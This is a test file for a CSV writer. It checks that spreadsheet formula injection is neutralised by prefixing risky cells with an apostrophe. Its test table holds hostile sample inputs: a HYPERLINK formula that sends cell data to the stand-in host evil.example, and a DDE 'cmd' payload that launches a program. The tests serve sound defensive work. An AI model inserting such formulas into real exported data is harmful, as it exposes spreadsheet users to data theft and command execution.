// Lines of CSV: what spreadsheets would run as a formula, numbers, and what needs quotes.
import { expect, test } from "bun:test";
import Papa from "papaparse";
import { csvLine } from "../../src/kernel/csv.ts";

const written: Readonly<Record<string, string>> = {
  "=1+1": "'=1+1",
  '=HYPERLINK("http://evil.example?x="&A1)': `"'=HYPERLINK(""http://evil.example?x=""&A1)"`,
  "+49 170 1234": "'+49 170 1234",
  "-": "'-",
  "- a list": "'- a list",
  "-1+cmd|'/c calc'!A1": "'-1+cmd|'/c calc'!A1",
  "@SUM(A1)": "'@SUM(A1)",
  "\t=1": "'\t=1",
  "\r=1": `"'\r=1"`,
  "\n=1": `"'\n=1"`,
  "＝1+1": "'＝1+1",
  "＠SUM(A1)": "'＠SUM(A1)",
  "-1.5": "-1.5",
  "+7": "+7",
  "-.5e-10": "-.5e-10",
  "1=1": "1=1",
  "'=1": "'=1",
  " =1": " =1",
  "a,b": '"a,b"',
  "": "",
};

test.each(Object.entries(written))("%p is written as %p", (cell, text) => {
  expect(csvLine(["a", cell])).toBe(`a,${text}\n`);
});

test("a program reads the same cells, but for the apostrophe", () => {
  const cells = Object.keys(written);
  const read = Papa.parse<string[]>(csvLine(cells), { newline: "\n" }).data[0]!;
  expect(read.map((cell, at) => (cell === cells[at] ? cell : cell.replace(/^'/, "")))).toEqual(cells);
});
